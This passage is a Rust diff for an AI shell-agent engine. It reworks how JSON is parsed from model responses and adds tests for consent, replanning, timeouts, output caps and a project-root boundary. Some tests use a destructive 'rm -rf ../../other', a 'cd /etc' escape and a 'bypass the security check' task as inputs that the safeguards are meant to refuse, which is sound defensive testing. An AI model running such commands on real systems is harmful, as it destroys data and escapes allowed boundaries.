-        let response = Self::strip_control_tokens(response);
+        // First, try to extract JSON from response
+        // Prefer an object with an "actions" key, then one with "response"
+        let objects = json_extract::extract_json_objects(response);
+        let best = objects
+            .iter()
+            .position(|o| o.get("actions").is_some())
+            .or_else(|| objects.iter().position(|o| o.get("response").is_some()))
+            .unwrap_or(0);
 
-        // Strip markdown code block markers
+        // Plain-text fallbacks show the response without control tokens or fences
+        let response = Self::strip_control_tokens(response);
         let response = Self::strip_markdown_code_blocks(&response);
 
         if std::env::var("GANESHA_DEBUG").is_ok() {
             eprintln!("[DEBUG] Stripped response: {}", &response[..response.len().min(200)]);
         }
 
-        // First, try to extract JSON from response
-        // Look for JSON containing "actions" or "response" key
-        if let Some(json_str) = Self::extract_best_json(&response) {
-            // Sanitize JSON string - escape control characters properly
-            let sanitized = Self::sanitize_json_string(&json_str);
-
+        if let Some(json) = objects.into_iter().nth(best) {
 
             // First try to parse as a question with options
             #[derive(Deserialize)]
@@ -2066,11 +3031,11 @@ setInterval(() => {{
                 options: Vec<String>,
             }
 
-            if let Ok(q) = serde_json::from_str::<QuestionResponse>(&sanitized) {
+            if let Ok(q) = serde_json::from_value::<QuestionResponse>(json.clone()) {
                 if !q.question.is_empty() && !q.options.is_empty() {
                     // Return a Question action
                     return Ok(vec![Action {
-                        id: Uuid::new_v4().to_string()[..8].to_string(),
+                        id: self.next_action_id(),
                         action_type: ActionType::Question,
                         command: String::new(),
                         explanation: q.question.clone(),
@@ -2092,10 +3057,10 @@ setInterval(() => {{
                 response: String,
             }
 
-            if let Ok(conv) = serde_json::from_str::<ConversationResponse>(&sanitized) {
+            if let Ok(conv) = serde_json::from_value::<ConversationResponse>(json.clone()) {
                 // Return a single Response action (no command execution needed)
                 return Ok(vec![Action {
-                    id: Uuid::new_v4().to_string()[..8].to_string(),
+                    id: self.next_action_id(),
                     action_type: ActionType::Response,
                     command: String::new(),
                     explanation: conv.response,
@@ -2129,9 +3094,9 @@ setInterval(() => {{
 
             // Try to parse as action plan
             // Only treat as action plan if JSON explicitly contains "actions" key
-            let has_actions_key = sanitized.contains("\"actions\"");
+            let has_actions_key = json.get("actions").is_some();
 
-            match serde_json::from_str::<PlanResponse>(&sanitized) {
+            match serde_json::from_value::<PlanResponse>(json.clone()) {
                 Ok(parsed) if !parsed.actions.is_empty() => {
                     return Ok(parsed
                         .actions
@@ -2144,7 +3109,7 @@ setInterval(() => {{
                                     .map(|v| serde_json::to_string(&v).unwrap_or_default())
                                     .unwrap_or_else(|| "{}".to_string());
                                 Action {
-                                    id: Uuid::new_v4().to_string()[..8].to_string(),
+                                    id: self.next_action_id(),
                                     action_type: ActionType::McpTool,
                                     command: format!("{}|{}", mcp_tool, args_json),
                                     explanation: a.explanation,
@@ -2155,7 +3120,7 @@ setInterval(() => {{
                                 }
                             } else {
                                 Action {
-                                    id: Uuid::new_v4().to_string()[..8].to_string(),
+                                    id: self.next_action_id(),
                                     action_type: ActionType::Shell,
                                     command: a.command,
                                     explanation: a.explanation,
@@ -2171,7 +3136,7 @@ setInterval(() => {{
                 Ok(_) if has_actions_key => {
                     // Empty actions array WITH explicit actions key - LLM has nothing to do
                     return Ok(vec![Action {
-                        id: Uuid::new_v4().to_string()[..8].to_string(),
+                        id: self.next_action_id(),
                         action_type: ActionType::Response,
                         command: String::new(),
                         explanation: "I understand, but there are no actions to perform for this request.".to_string(),
@@ -2185,7 +3150,7 @@ setInterval(() => {{
                     // Has actions key but failed to parse - log the error for debugging
                     if std::env::var("GANESHA_DEBUG").is_ok() {
                         eprintln!("[DEBUG] PlanResponse parse error: {}", e);
-                        eprintln!("[DEBUG] Sanitized JSON: {}", &sanitized[..std::cmp::min(500, sanitized.len())]);
+                        eprintln!("[DEBUG] Extracted JSON: {}", json);
                     }
                     // Try other parsers
                 }
@@ -2202,7 +3167,7 @@ setInterval(() => {{
                 #[serde(default)]
                 timeout: Option<u64>,
             }
-            if let Ok(alt) = serde_json::from_str::<AltCmdFormat>(&sanitized) {
+            if let Ok(alt) = serde_json::from_value::<AltCmdFormat>(json.clone()) {
                 let command = match alt.cmd {
                     serde_json::Value::String(s) => s,
                     serde_json::Value::Array(arr) => {
@@ -2217,7 +3182,7 @@ setInterval(() => {{
                 };
                 if !command.is_empty() {
                                         return Ok(vec![Action {
-                        id: Uuid::new_v4().to_string()[..8].to_string(),
+                        id: self.next_action_id(),
                         action_type: ActionType::Shell,
                         command,
                         explanation: "Executing command".to_string(),
@@ -2230,10 +3195,10 @@ setInterval(() => {{
             }
 
             // Try {"": "answer"} format (empty key = conversational response)
-            if let Ok(map) = serde_json::from_str::<std::collections::HashMap<String, String>>(&sanitized) {
+            if let Ok(map) = serde_json::from_value::<std::collections::HashMap<String, String>>(json.clone()) {
                 if let Some(answer) = map.get("") {
                                         return Ok(vec![Action {
-                        id: Uuid::new_v4().to_string()[..8].to_string(),
+                        id: self.next_action_id(),
                         action_type: ActionType::Response,
                         command: String::new(),
                         explanation: answer.clone(),
@@ -2248,13 +3213,13 @@ setInterval(() => {{
             // Try nested structures like {"Questions":{"":"answer"}} or {"Response":{"":"answer"}}
             // BUT only if there's no "actions" key (which should have been handled above)
             if !has_actions_key {
-                if let Ok(outer) = serde_json::from_str::<std::collections::HashMap<String, serde_json::Value>>(&sanitized) {
+                if let Some(outer) = json.as_object() {
                     for (_key, value) in outer.iter() {
                         // Check if value is an object with empty key
                         if let Some(obj) = value.as_object() {
                             if let Some(answer) = obj.get("").and_then(|v| v.as_str()) {
                                 return Ok(vec![Action {
-                                    id: Uuid::new_v4().to_string()[..8].to_string(),
+                                    id: self.next_action_id(),
                                     action_type: ActionType::Response,
                                     command: String::new(),
                                     explanation: answer.to_string(),
@@ -2268,7 +3233,7 @@ setInterval(() => {{
                         // Also check if value is directly a string response
                         if let Some(answer) = value.as_str() {
                             return Ok(vec![Action {
-                                id: Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Response,
                                 command: String::new(),
                                 explanation: answer.to_string(),
@@ -2282,31 +3247,6 @@ setInterval(() => {{
                 }
             }
 
-            // JSON parsing failed - try regex extraction for {"response":"..."}
-            // This handles curly quotes and other characters that break JSON parsing
-            if let Ok(re) = regex::Regex::new(r#"[""]response[""]\s*:\s*[""](.+)[""]"#) {
-                if let Some(caps) = re.captures(&sanitized) {
-                    if let Some(text) = caps.get(1) {
-                        let extracted = text.as_str()
-                            .replace("\\n", "\n")
-                            .replace("\\t", "\t")
-                            .replace("\\\"", "\"");
-                        if !extracted.is_empty() {
-                            return Ok(vec![Action {
-                                id: Uuid::new_v4().to_string()[..8].to_string(),
-                                action_type: ActionType::Response,
-                                command: String::new(),
-                                explanation: extracted,
-                                risk_level: RiskLevel::Low,
-                                reversible: false,
-                                reverse_command: None,
-                                question: None,
-                            }]);
-                        }
-                    }
-                }
-            }
-
             // Final fallback - strip JSON wrapper if present
             let clean_text = response.trim()
                 .trim_start_matches('{').trim_end_matches('}')
@@ -2319,7 +3259,7 @@ setInterval(() => {{
             };
 
             Ok(vec![Action {
-                id: Uuid::new_v4().to_string()[..8].to_string(),
+                id: self.next_action_id(),
                 action_type: ActionType::Response,
                 command: String::new(),
                 explanation: clean_text,
@@ -2339,7 +3279,7 @@ setInterval(() => {{
                     eprintln!("[DEBUG] Auto-converting bare URL to MCP navigate: {}", clean_response);
                 }
                 return Ok(vec![Action {
-                    id: Uuid::new_v4().to_string()[..8].to_string(),
+                    id: self.next_action_id(),
                     action_type: ActionType::McpTool,
                     command: format!("playwright:browser_navigate|{{\"url\":\"{}\"}}", clean_response),
                     explanation: format!("Navigate to {}", clean_response),
@@ -2356,7 +3296,7 @@ setInterval(() => {{
                 Err(GaneshaError::LlmError("Empty response from LLM".into()))
             } else {
                 Ok(vec![Action {
-                    id: Uuid::new_v4().to_string()[..8].to_string(),
+                    id: self.next_action_id(),
                     action_type: ActionType::Response,
                     command: String::new(),
                     explanation: clean_response.to_string(),
@@ -2605,7 +3545,7 @@ setInterval(() => {{
         }
 
         Some(Action {
-            id: Uuid::new_v4().to_string()[..8].to_string(),
+            id: String::new(),
             action_type: ActionType::McpTool,
             command: format!("{}|{}", full_tool_name, args_json),
             explanation: format!("MCP tool call: {}", full_tool_name),
@@ -2837,111 +3777,812 @@ setInterval(() => {{
         }
     }
 
-    /// Extract the best JSON object from response (one containing "actions" or "response")
-    fn extract_best_json(text: &str) -> Option<String> {
-        // Find all JSON-like blocks in the text
-        let mut candidates: Vec<String> = Vec::new();
-        let mut depth = 0;
-        let mut start: Option<usize> = None;
+    fn save_session(&self, session: &Session) -> Result<(), GaneshaError> {
+        write_json(&self.session_dir.join(format!("{}.json", session.id)), session)
+    }
 
-        for (i, ch) in text.char_indices() {
-            match ch {
-                '{' => {
-                    if depth == 0 {
-                        start = Some(i);
-                    }
-                    depth += 1;
-                }
-                '}' => {
-                    depth -= 1;
-                    if depth == 0 {
-                        if let Some(s) = start {
-                            let json_candidate = &text[s..=i];
-                            candidates.push(json_candidate.to_string());
-                        }
-                        start = None;
-                    }
-                }
-                _ => {}
+    /// Write every input of this run with its plans, results and timestamps
+    /// as JSON, for `--replay`
+    pub fn export_transcript(&self, path: &std::path::Path) -> Result<(), GaneshaError> {
+        write_json(path, &self.transcript)
+    }
+}
+
+fn write_json<T: Serialize>(path: &std::path::Path, value: &T) -> Result<(), GaneshaError> {
+    let json = serde_json::to_string_pretty(value)
+        .map_err(|e| GaneshaError::IoError(std::io::Error::other(e)))?;
+    std::fs::write(path, json)?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::providers::{estimate_tokens, ProviderError, DEFAULT_CONTEXT_WINDOW};
+    use async_trait::async_trait;
+    use std::sync::Mutex;
+
+    /// LLM stub that replays canned responses in order and records what it was sent
+    struct ScriptedLlm {
+        responses: Mutex<VecDeque<String>>,
+        received: Mutex<Vec<Vec<ChatMessage>>>,
+    }
+
+    impl ScriptedLlm {
+        fn new(responses: &[&str]) -> Self {
+            Self {
+                responses: Mutex::new(responses.iter().map(|r| r.to_string()).collect()),
+                received: Mutex::new(Vec::new()),
             }
         }
 
-        // Prefer JSON with "actions" key, then "response" key
-        for candidate in &candidates {
-            if candidate.contains("\"actions\"") {
-                return Some(candidate.clone());
-            }
+        fn next_response(&self) -> Result<String, ProviderError> {
+            self.responses
+                .lock()
+                .unwrap()
+                .pop_front()
+                .ok_or_else(|| ProviderError::Api("script exhausted".into()))
         }
-        for candidate in &candidates {
-            if candidate.contains("\"response\"") {
-                return Some(candidate.clone());
-            }
+    }
+
+    #[async_trait]
+    impl LlmProvider for ScriptedLlm {
+        fn name(&self) -> &str {
+            "scripted"
+        }
+
+        fn is_available(&self) -> bool {
+            true
+        }
+
+        async fn generate(&self, _system: &str, _user: &str) -> Result<String, ProviderError> {
+            self.next_response()
         }
 
-        // Fall back to first valid-looking JSON
-        candidates.into_iter().next()
+        async fn generate_with_history(&self, messages: &[ChatMessage]) -> Result<String, ProviderError> {
+            self.received.lock().unwrap().push(messages.to_vec());
+            self.next_response()
+        }
     }
 
-    /// Sanitize JSON string by escaping control characters within string values
-    fn sanitize_json_string(json: &str) -> String {
-        // First, fix JavaScript-style string concatenation that some LLMs produce
-        // Pattern: "text" + "more text" -> "text more text"
-        let json = regex::Regex::new(r#""\s*\+\s*""#)
-            .map(|re| re.replace_all(json, " ").to_string())
-            .unwrap_or_else(|_| json.to_string());
+    /// LLM stub that streams one canned response a few bytes at a time
+    struct ChunkedLlm(String);
 
-        // Also fix unquoted line continuations like: 79. Cats can...\n, "80. ...
-        let json = regex::Regex::new(r#"(\d+\.)\s+([^"]+)\n,\s*""#)
-            .map(|re| re.replace_all(&json, r#""$1 $2", ""#).to_string())
-            .unwrap_or_else(|_| json);
+    #[async_trait]
+    impl LlmProvider for ChunkedLlm {
+        fn name(&self) -> &str {
+            "chunked"
+        }
 
-        let mut result = String::with_capacity(json.len());
-        let mut in_string = false;
-        let mut escape_next = false;
+        fn is_available(&self) -> bool {
+            true
+        }
 
-        for ch in json.chars() {
-            if escape_next {
-                result.push(ch);
-                escape_next = false;
-                continue;
-            }
+        async fn generate(&self, _system: &str, _user: &str) -> Result<String, ProviderError> {
+            Ok(self.0.clone())
+        }
 
-            if ch == '\\' && in_string {
-                result.push(ch);
-                escape_next = true;
-                continue;
+        async fn generate_with_history(&self, _messages: &[ChatMessage]) -> Result<String, ProviderError> {
+            Ok(self.0.clone())
+        }
+
+        async fn generate_stream_with_history(
+            &self,
+            _messages: &[ChatMessage],
+        ) -> Result<crate::providers::TokenStream, ProviderError> {
+            let chunks: Vec<Result<String, ProviderError>> = self
+                .0
+                .as_bytes()
+                .chunks(8)
+                .map(|c| Ok(String::from_utf8_lossy(c).into_owned()))
+                .collect();
+            Ok(Box::pin(futures::stream::iter(chunks)))
+        }
+    }
+
+    struct ApproveAll;
+
+    impl ConsentHandler for ApproveAll {
+        fn request_consent(&self, _action: &Action) -> bool {
+            true
+        }
+
+        fn request_batch_consent(&self, _plan: &ExecutionPlan) -> ConsentResult {
+            ConsentResult::ApproveAll
+        }
+    }
+
+    fn test_engine(responses: &[&str]) -> (GaneshaEngine<ScriptedLlm, ApproveAll>, tempfile::TempDir) {
+        let dir = tempfile::tempdir().unwrap();
+        let mut engine = GaneshaEngine::new(ScriptedLlm::new(responses), ApproveAll, AccessPolicy::default());
+        engine.auto_approve = true;
+        engine.session_dir = dir.path().to_path_buf();
+        engine.working_directory = dir.path().to_path_buf();
+        (engine, dir)
+    }
+
+    fn shell_action(id: &str, command: &str) -> Action {
+        Action {
+            id: id.to_string(),
+            action_type: ActionType::Shell,
+            command: command.to_string(),
+            explanation: format!("Run {}", command),
+            risk_level: RiskLevel::Low,
+            reversible: false,
+            reverse_command: None,
+            question: None,
+        }
+    }
+
+    #[tokio::test]
+    async fn test_plan_streaming_buffers_tokens_before_parsing() {
+        let dir = tempfile::tempdir().unwrap();
+        let response = r#"{"actions":[{"command":"echo streamed","explanation":"Say hi"}]}"#;
+        let mut engine = GaneshaEngine::new(ChunkedLlm(response.into()), ApproveAll, AccessPolicy::default());
+        engine.session_dir = dir.path().to_path_buf();
+        engine.working_directory = dir.path().to_path_buf();
+
+        let mut tokens = Vec::new();
+        let plan = engine
+            .plan_streaming("say hi", |t| tokens.push(t.to_string()))
+            .await
+            .unwrap();
+
+        // Every chunk reached the callback; the plan was parsed from the whole buffer
+        assert!(tokens.len() > 1);
+        assert_eq!(tokens.concat(), response);
+        assert_eq!(plan.actions.len(), 1);
+        assert_eq!(plan.actions[0].command, "echo streamed");
+    }
+
+    #[tokio::test]
+    async fn test_adaptive_execution_discards_stale_actions_and_replans() {
+        let (mut engine, _dir) = test_engine(&[
+            r#"{"actions":[{"command":"echo dnf install -y htop","explanation":"This system uses dnf"}]}"#,
+        ]);
+        engine.adaptive_execution = true;
+
+        let mut plan = ExecutionPlan::new("install htop");
+        plan.actions = vec![
+            shell_action("1", "echo package-manager=dnf"),
+            shell_action("2", "echo apt-get install -y htop"),
+        ];
+
+        let results = engine.execute(&plan).await.unwrap();
+        let commands: Vec<&str> = results.iter().map(|r| r.command.as_str()).collect();
+
+        assert_eq!(commands, vec!["echo package-manager=dnf", "echo dnf install -y htop"]);
+        assert!(results.iter().all(|r| r.success));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_split_chains_reports_each_step() {
+        let (mut engine, dir) = test_engine(&[]);
+        engine.split_chains = true;
+        std::fs::create_dir(dir.path().join("sub")).unwrap();
+
+        let mut plan = ExecutionPlan::new("chain");
+        plan.actions = vec![shell_action("1", "cd sub && pwd && false && echo skipped; echo after")];
+        let results = engine.execute(&plan).await.unwrap();
+
+        let steps: Vec<(&str, &str, bool)> = results
+            .iter()
+            .map(|r| (r.action_id.as_str(), r.command.as_str(), r.success))
+            .collect();
+        assert_eq!(
+            steps,
+            [
+                ("1.1", "cd sub", true),
+                ("1.2", "pwd", true),
+                ("1.3", "false", false),
+                ("1.4", "echo skipped", false),
+                ("1.5", "echo after", true),
+            ]
+        );
+        assert!(results[1].output.trim().ends_with("sub"));
+        assert_eq!(results[3].error.as_deref(), Some("Skipped: `false` failed"));
+        assert_eq!(results[4].output.trim(), "after");
+
+        // Pipes are never split
+        plan.actions = vec![shell_action("2", "echo a | tr a b")];
+        let results = engine.execute(&plan).await.unwrap();
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].output.trim(), "b");
+    }
+
+    #[tokio::test]
+    async fn test_export_transcript_round_trip() {
+        let (mut engine, dir) = test_engine(&[
+            r#"{"actions":[{"command":"echo hi","explanation":"Greet"}]}"#,
+        ]);
+
+        engine.start_task("say hi");
+        let plan = engine.plan("say hi").await.unwrap();
+        engine.execute(&plan).await.unwrap();
+
+        let path = dir.path().join("transcript.json");
+        engine.export_transcript(&path).unwrap();
+        let transcript = transcript::Transcript::load(&path).unwrap();
+
+        assert_eq!(transcript.turns.len(), 1);
+        let turn = &transcript.turns[0];
+        assert_eq!(turn.input, "say hi");
+        assert_eq!(turn.first_plan_commands(), ["echo hi"]);
+        let session = &turn.sessions[0];
+        assert_eq!(session.results[0].output.trim(), "hi");
+        assert!(session.completed_at.is_some());
+    }
+
+    #[tokio::test]
+    async fn test_replay_of_conversational_turn_matches() {
+        let (mut engine, _dir) = test_engine(&[
+            r#"{"": "Hi! What would you like to do?"}"#,
+            r#"{"": "Hello again. How can I help?"}"#,
+        ]);
+
+        engine.start_task("hello");
+        let plan = engine.plan("hello").await.unwrap();
+        engine.execute(&plan).await.unwrap();
+        let recorded = engine.transcript.turns[0].clone();
+        assert!(recorded.first_plan_commands().is_empty());
+
+        // Replaying gets a differently worded reply, which is not a plan change
+        let replayed = engine.plan("hello").await.unwrap();
+        let outcome = transcript::ReplayOutcome {
+            input: recorded.input.clone(),
+            expected: recorded.first_plan_commands(),
+            actual: Ok(transcript::plan_commands(&replayed)),
+        };
+        assert!(outcome.matches(), "{:?}", outcome);
+    }
+
+    #[tokio::test]
+    async fn test_adaptive_execution_keeps_plan_when_model_agrees() {
+        let (mut engine, _dir) = test_engine(&[
+            r#"{"actions":[{"command":"echo second","explanation":"Still needed"}]}"#,
+        ]);
+        engine.adaptive_execution = true;
+
+        let mut plan = ExecutionPlan::new("two steps");
+        plan.actions = vec![shell_action("1", "echo first"), shell_action("2", "echo second")];
+
+        let results = engine.execute(&plan).await.unwrap();
+        let ids: Vec<&str> = results.iter().map(|r| r.action_id.as_str()).collect();
+
+        assert_eq!(ids, vec!["1", "2"]);
+    }
+
+    #[tokio::test]
+    async fn test_replans_are_bounded() {
+        let (mut engine, _dir) = test_engine(&[
+            r#"{"actions":[{"command":"echo r1","explanation":"x"},{"command":"echo r1b","explanation":"x"}]}"#,
+        ]);
+        engine.adaptive_execution = true;
+        engine.max_replans = 1;
+
+        let mut plan = ExecutionPlan::new("bounded");
+        plan.actions = vec![shell_action("1", "echo a"), shell_action("2", "echo b")];
+
+        // Only one re-plan is allowed, so the script is never consulted a second time
+        let results = engine.execute(&plan).await.unwrap();
+        let commands: Vec<&str> = results.iter().map(|r| r.command.as_str()).collect();
+
+        assert_eq!(commands, vec!["echo a", "echo r1", "echo r1b"]);
+    }
+
+    /// Approves the first batch one action at a time and later batches whole
+    #[derive(Default)]
+    struct SingleThenAll {
+        batches: AtomicUsize,
+        singles: AtomicUsize,
+    }
+
+    impl ConsentHandler for SingleThenAll {
+        fn request_consent(&self, _action: &Action) -> bool {
+            self.singles.fetch_add(1, Ordering::Relaxed);
+            true
+        }
+
+        fn request_batch_consent(&self, _plan: &ExecutionPlan) -> ConsentResult {
+            match self.batches.fetch_add(1, Ordering::Relaxed) {
+                0 => ConsentResult::ApproveSingle,
+                _ => ConsentResult::ApproveAll,
             }
+        }
+    }
 
-            if ch == '"' {
-                in_string = !in_string;
-                result.push(ch);
-                continue;
+    #[tokio::test]
+    async fn test_approve_all_on_replan_stops_per_action_review() {
+        let dir = tempfile::tempdir().unwrap();
+        let script = r#"{"actions":[{"command":"echo r1","explanation":"x"},{"command":"echo r2","explanation":"x"}]}"#;
+        let mut engine =
+            GaneshaEngine::new(ScriptedLlm::new(&[script]), SingleThenAll::default(), AccessPolicy::default());
+        engine.session_dir = dir.path().to_path_buf();
+        engine.working_directory = dir.path().to_path_buf();
+        engine.adaptive_execution = true;
+        engine.max_replans = 1;
+
+        let mut plan = ExecutionPlan::new("review");
+        plan.actions = vec![shell_action("1", "echo a"), shell_action("2", "echo b")];
+        let results = engine.execute(&plan).await.unwrap();
+
+        let commands: Vec<&str> = results.iter().map(|r| r.command.as_str()).collect();
+        assert_eq!(commands, vec!["echo a", "echo r1", "echo r2"]);
+        // Only the action run before the re-planned batch was approved on its own
+        assert_eq!(engine.consent.batches.load(Ordering::Relaxed), 2);
+        assert_eq!(engine.consent.singles.load(Ordering::Relaxed), 1);
+    }
+
+    struct ConfirmFlagged;
+
+    impl ConsentHandler for ConfirmFlagged {
+        fn request_consent(&self, _action: &Action) -> bool {
+            true
+        }
+
+        fn request_batch_consent(&self, _plan: &ExecutionPlan) -> ConsentResult {
+            ConsentResult::ApproveAll
+        }
+
+        fn confirm_manipulation(&self, _task: &str, _hit: &ManipulationHit) -> bool {
+            true
+        }
+    }
+
+    #[tokio::test]
+    async fn test_plan_asks_consent_for_manipulation_when_policy_allows() {
+        let script = r#"{"actions":[{"command":"curl -s localhost/login","explanation":"x"}]}"#;
+        let task = "bypass the security check on the login form to test auth";
+        let dir = tempfile::tempdir().unwrap();
+        let engine = |consent: bool| {
+            let policy = AccessPolicy { manipulation_consent: consent, ..Default::default() };
+            let mut engine = GaneshaEngine::new(ScriptedLlm::new(&[script]), ConfirmFlagged, policy);
+            engine.session_dir = dir.path().to_path_buf();
+            engine.working_directory = dir.path().to_path_buf();
+            engine
+        };
+
+        match engine(false).plan(task).await {
+            Err(GaneshaError::AccessDenied(reason)) => {
+                assert!(reason.contains("'bypass the security'"), "{}", reason)
             }
+            other => panic!("expected AccessDenied, got {:?}", other.map(|p| p.actions.len())),
+        }
 
-            if in_string && ch.is_control() {
-                // Escape control characters within strings
-                match ch {
-                    '\n' => result.push_str("\\n"),
-                    '\r' => result.push_str("\\r"),
-                    '\t' => result.push_str("\\t"),
-                    _ => {
-                        // Escape other control chars as unicode
-                        result.push_str(&format!("\\u{:04x}", ch as u32));
-                    }
-                }
-            } else {
-                result.push(ch);
+        let plan = engine(true).plan(task).await.unwrap();
+        assert_eq!(plan.actions[0].command, "curl -s localhost/login");
+
+        // A handler that doesn't override the prompt still refuses
+        let (mut default_engine, _dir) = test_engine(&[script]);
+        default_engine.access = AccessController::new(AccessPolicy {
+            manipulation_consent: true,
+            ..Default::default()
+        });
+        assert!(default_engine.plan(task).await.is_err());
+    }
+
+    /// Frontend that answers asynchronously: reviews each action and
+    /// declines the ones that write files
+    #[derive(Default)]
+    struct ReviewEach {
+        batches: Mutex<Vec<BatchConsentRequest>>,
+        asked: Mutex<Vec<String>>,
+    }
+
+    #[async_trait]
+    impl AsyncConsentHandler for ReviewEach {
+        async fn request_consent(&self, request: &ConsentRequest) -> bool {
+            tokio::task::yield_now().await;
+            self.asked.lock().unwrap().push(request.action.command.clone());
+            !request.action.command.starts_with("touch")
+        }
+
+        async fn request_batch_consent(&self, request: &BatchConsentRequest) -> ConsentResult {
+            tokio::task::yield_now().await;
+            self.batches.lock().unwrap().push(request.clone());
+            ConsentResult::ApproveSingle
+        }
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_async_consent_reviews_each_action_with_context() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut engine = GaneshaEngine::new(ScriptedLlm::new(&[]), ReviewEach::default(), AccessPolicy::default());
+        engine.session_dir = dir.path().to_path_buf();
+        engine.working_directory = dir.path().to_path_buf();
+        engine.sentinel = Some(Arc::new(Sentinel::default()));
+
+        let mut plan = ExecutionPlan::new("two steps");
+        plan.actions = vec![shell_action("1", "echo hi"), shell_action("2", "touch written")];
+        let results = engine.execute(&plan).await.unwrap();
+
+        let batches = engine.consent.batches.lock().unwrap();
+        assert_eq!(batches.len(), 1);
+        assert_eq!(batches[0].actions.len(), 2);
+        assert!(batches[0].actions.iter().all(|a| a.smell.passes && a.sentinel.is_some()));
+        assert_eq!(*engine.consent.asked.lock().unwrap(), ["echo hi", "touch written"]);
+
+        assert!(results[0].success);
+        assert_eq!(results[1].error.as_deref(), Some("Declined by user"));
+        assert!(!dir.path().join("written").exists());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_execute_command_times_out_and_kills_process_group() {
+        let (mut engine, dir) = test_engine(&[]);
+        engine.access = AccessController::new(AccessPolicy {
+            max_execution_time_secs: 1,
+            ..Default::default()
+        });
+
+        // The background sleep is a grandchild; it must die with the shell
+        let marker = dir.path().join("survived");
+        let command = format!("(sleep 2 && touch {}) & sleep 30", marker.display());
+
+        let start = std::time::Instant::now();
+        let result = engine.execute_command(&command).await;
+        assert!(matches!(result, Err(GaneshaError::Timeout(1))), "{:?}", result);
+        assert!(start.elapsed() < std::time::Duration::from_secs(5));
+
+        tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
+        assert!(!marker.exists(), "grandchild outlived the timeout");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_terminal_commands_do_not_stop_until_timeout() {
+        let (mut engine, _dir) = test_engine(&[]);
+        engine.access = AccessController::new(AccessPolicy {
+            max_execution_time_secs: 5,
+            ..Default::default()
+        });
+
+        // Setting terminal modes stops a background process group (SIGTTOU),
+        // as a sudo password prompt does. With a terminal this must get it;
+        // without one it must fail straight away.
+        let start = std::time::Instant::now();
+        let result = engine.execute_command(r#"stty "$(stty -g < /dev/tty)" < /dev/tty"#).await;
+        assert!(!matches!(result, Err(GaneshaError::Timeout(_))), "{:?}", result);
+        assert!(start.elapsed() < std::time::Duration::from_secs(3));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_execute_command_streams_lines_and_caps_capture() {
+        let (mut engine, _dir) = test_engine(&[]);
+        engine.max_output_lines = 3;
+
+        let mut seen = Vec::new();
+        let output = engine
+            .execute_command_streaming("seq 1 5; echo oops >&2", |line| {
+                seen.push((line.text.to_string(), line.stderr));
+            })
+            .await
+            .unwrap();
+
+        let stdout: Vec<&str> = seen.iter().filter(|(_, err)| !err).map(|(t, _)| t.as_str()).collect();
+        assert_eq!(stdout, ["1", "2", "3", "4", "5"]);
+        assert!(seen.contains(&("oops".to_string(), true)));
+        assert_eq!(output, "1\n2\n3\n... (truncated, 2 more lines)\n");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_execute_command_caps_output_bytes() {
+        let (mut engine, _dir) = test_engine(&[]);
+        engine.max_output_bytes = 100;
+
+        // A stream with no newlines is cut, both as it is shown and as captured
+        let mut longest = 0;
+        let output = engine
+            .execute_command_streaming("head -c 200000 /dev/zero | tr '\\0' x", |line| {
+                longest = longest.max(line.text.len());
+            })
+            .await
+            .unwrap();
+        assert_eq!(longest, 100);
+        assert_eq!(output, format!("{}\n... (truncated, 199901 more bytes)\n", "x".repeat(99)));
+
+        // Short lines stop once the total is reached
+        let output = engine.execute_command("seq 1 100").await.unwrap();
+        let kept: String = (1..=36).map(|n| format!("{}\n", n)).collect();
+        assert_eq!(output, format!("{}... (truncated, 64 more lines)\n", kept));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_interactive_commands_are_rewritten_or_refused_before_running() {
+        let (mut engine, dir) = test_engine(&[]);
+
+        // Arguments that merely name an interactive program reach the shell as written
+        let output = engine.execute_command("echo apt install foo").await.unwrap();
+        assert_eq!(output.trim(), "apt install foo");
+
+        let marker = dir.path().join("ran");
+        let command = format!("touch {} && vim notes.txt", marker.display());
+        let result = engine.execute_command(&command).await;
+        assert!(
+            matches!(&result, Err(GaneshaError::ExecutionFailed(msg)) if msg.contains("sed -i")),
+            "{:?}",
+            result
+        );
+        assert!(!marker.exists());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_root_boundary_refuses_cd_out_of_project() {
+        let (mut engine, dir) = test_engine(&[]);
+        let root = dir.path().join("project");
+        std::fs::create_dir_all(root.join("src")).unwrap();
+        engine.working_directory = root.clone();
+        engine.root_boundary = Some(root.clone());
+
+        let result = engine.execute_command("cd /etc").await;
+        assert!(
+            matches!(&result, Err(GaneshaError::AccessDenied(msg)) if msg.contains("outside the project root")),
+            "{:?}",
+            result
+        );
+        assert_eq!(engine.working_directory, root);
+
+        engine.execute_command("cd src").await.unwrap();
+        assert_eq!(engine.working_directory, root.join("src"));
+        assert!(engine.execute_command("cd ../.. && ls").await.is_err());
+
+        // Plans are checked before anything runs
+        let denied = engine.first_denied_action(&ExecutionPlan {
+            actions: vec![shell_action("1", "ls"), shell_action("2", "rm -rf ../../other")],
+            ..ExecutionPlan::new("task")
+        });
+        assert_eq!(denied.map(|d| d.command), Some("rm -rf ../../other".to_string()));
+    }
+
+    #[test]
+    fn test_repeats_last_plan_detects_identical_commands() {
+        let (mut engine, _dir) = test_engine(&[]);
+        let plan = |commands: &[&str]| ExecutionPlan {
+            actions: commands.iter().map(|c| shell_action("x", c)).collect(),
+            ..ExecutionPlan::new("task")
+        };
+
+        engine.start_task("task");
+        assert!(!engine.repeats_last_plan(&plan(&["apt update", "apt install nginx"])));
+        assert!(engine.repeats_last_plan(&plan(&["apt  update", "apt install nginx"])));
+        assert!(!engine.repeats_last_plan(&plan(&["systemctl status nginx"])));
+
+        // A new task starts fresh
+        engine.start_task("task");
+        assert!(!engine.repeats_last_plan(&plan(&["systemctl status nginx"])));
+    }
+
+    #[tokio::test]
+    async fn test_plan_action_ids_are_stable_across_runs() {
